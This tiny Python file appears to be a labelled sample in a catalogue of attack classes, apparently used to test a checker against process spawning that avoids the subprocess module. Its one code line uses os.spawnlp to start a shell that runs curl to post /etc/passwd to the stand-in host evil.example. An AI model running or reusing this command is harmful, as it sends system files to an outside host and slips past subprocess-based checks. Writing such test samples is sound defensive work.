# attack-class: 10
# title: os.spawnlp(os.P_NOWAIT, ...)
# why: spawn* starts a child process without subprocess

import os

os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", "curl http://evil.example/ -d @/etc/passwd")
